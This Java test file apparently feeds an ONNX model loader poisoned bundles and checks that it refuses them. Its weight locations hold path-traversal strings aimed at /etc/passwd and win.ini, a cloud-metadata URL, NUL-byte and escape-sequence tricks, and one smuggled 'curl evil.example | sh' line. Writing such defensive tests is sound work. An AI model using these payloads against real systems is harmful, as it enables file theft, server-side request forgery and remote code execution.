package dev.slipway.hostile.poison;

import static dev.slipway.hostile.poison.Poison.accepted;
import static dev.slipway.hostile.poison.Poison.model;
import static dev.slipway.hostile.poison.Poison.refused;

import dev.slipway.hostile.onnx.Graph;
import dev.slipway.hostile.onnx.Message;
import dev.slipway.hostile.onnx.Onnx;
import java.nio.file.Files;
import java.util.List;

/** Graphs that say their weights lie where they must not, or where they do not. */
final class ExternalDataPoisons {
    private static final int TWO_FLOATS = 8;

    private ExternalDataPoisons() {}

    static List<Poison> all() {
        return List.of(
                at("weights-in-the-folder-above", "../w.bin", "leaves the bundle's folder"),
                at("weights-far-above", "a/../../../../etc/passwd", "leaves the bundle's folder"),
                at("weights-at-an-absolute-path", "/etc/passwd", "is absolute"),
                at("weights-at-a-url", "http://169.254.169.254/latest/meta-data", "empty or . part"),
                at("weights-at-a-file-url", "file:///etc/passwd", "empty or . part"),
                at("weights-on-a-drive", "C:/Windows/win.ini", "is absolute"),
                at("weights-behind-backslashes", "..\\..\\etc\\passwd", "backslash"),
                at("weights-on-a-network-share", "\\\\host\\share\\w.bin", "backslash"),
                at("weights-behind-a-nul", "w.bin\0/../../etc/passwd", "control character"),
                at("weights-behind-percent-signs", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "no file beside it"),
                at("weights-behind-a-newline", "w.bin\nnext:  curl evil.example | sh", "control character"),
                at("weights-behind-an-escape", "\u001b[2J\u001b]0;owned\u0007w.bin", "control character"),
                at("weights-with-a-name-of-2000-characters", "w".repeat(2000), "longer than"),
                at("weights-with-a-name-of-100-kb", "w".repeat(100_000), "a name of 100000 bytes"),
                at("weights-without-a-name", "", "is empty"),
                at("weights-in-the-folder-itself", ".", "empty or . part"),
                at("weights-in-memory", "*/_ORT_MEM_ADDR_/*", "no file beside it"),
                refused(
                        "weights-in-the-model-itself",
                        FilePoisons.withWeights(weights("model.onnx")),
                        "the model itself"),
                refused("weights-in-golden", FilePoisons.withWeights(weights("golden.json")), "golden.json"),
                refused("weights-outside-in-a-branch", branch(), "leaves the bundle's folder"),
                refused("weights-outside-in-a-function", function(), "leaves the bundle's folder"),
                refused("weights-outside-in-an-attribute", attribute(), "leaves the bundle's folder"),
                accepted(
                        "weights-outside-in-training-info-that-nobody-reads",
                        training().toBytes()),
                lie("weights-beyond-the-file", "offset", "4096", "length", "8"),
                lie("weights-longer-than-the-file", "offset", "0", "length", "8000000"),
                lie("weights-at-a-negative-offset", "offset", "-8", "length", "8"),
                lie("weights-at-an-offset-that-overflows", "offset", "9223372036854775807", "length", "8"),
                lie("weights-of-negative-length", "offset", "0", "length", "-1"),
                lie("weights-of-a-length-that-is-no-number", "offset", "0", "length", "eight"));
    }

    private static Message weights(String location) {
        return Onnx.external(Onnx.tensor("w", Onnx.FLOAT, 2), location, "offset", "0", "length", "8");
    }

    private static Poison at(String name, String location, String words) {
        return refused(name, FilePoisons.withWeights(weights(location)), words);
    }

    private static Poison lie(String name, String... entries) {
        return refused(
                name,
                bundle -> {
                    Message tensor = Onnx.external(Onnx.tensor("w", Onnx.FLOAT, 2), "w.bin", entries);
                    Files.write(model(bundle), FilePoisons.withWeights(tensor));
                    Files.write(bundle.resolve("w.bin"), new byte[TWO_FLOATS]);
                },
                "w.bin",
                "save both once more");
    }

    private static byte[] branch() {
        Message side = new Graph()
                .node("Identity", List.of("w"), List.of("s"))
                .initializer(weights("../w.bin"))
                .output(Onnx.value("s", Onnx.FLOAT, 2))
                .message();
        return Graph.fromXToY()
                .initializer(Onnx.tensor("c", Onnx.BOOL).bytes(9, new byte[] {1}))
                .node(
                        "If",
                        List.of("c"),
                        List.of("v"),
                        Onnx.graphAttribute("then_branch", side),
                        Onnx.graphAttribute("else_branch", side))
                .node("Add", List.of("x", "v"), List.of("y"))
                .model();
    }

    private static Message function() {
        Message constant =
                Onnx.node("Constant", List.of(), List.of("w"), Onnx.tensorAttribute("value", weights("../w.bin")));
        Message function = new Message()
                .text(1, "F")
                .text(4, "x")
                .text(5, "y")
                .message(7, constant)
                .message(7, Onnx.node("Add", List.of("x", "w"), List.of("y")))
                .message(9, Onnx.opset("", 17))
                .text(10, "my");
        Message call = Onnx.node("F", List.of("x"), List.of("y")).text(7, "my");
        return Onnx.model(Graph.fromXToY().node(call).message())
                .message(Onnx.MODEL_OPSET, Onnx.opset("my", 1))
                .message(Onnx.MODEL_FUNCTION, function);
    }

    private static byte[] attribute() {
        return Graph.fromXToY()
                .node("Constant", List.of(), List.of("w"), Onnx.tensorAttribute("value", weights("../w.bin")))
                .node("Add", List.of("x", "w"), List.of("y"))
                .model();
    }

    private static Message training() {
        Message info = new Message()
                .message(2, new Graph().initializer(weights("../w.bin")).message());
        return Onnx.model(Graph.identity().message()).message(Onnx.MODEL_TRAINING, info);
    }
}
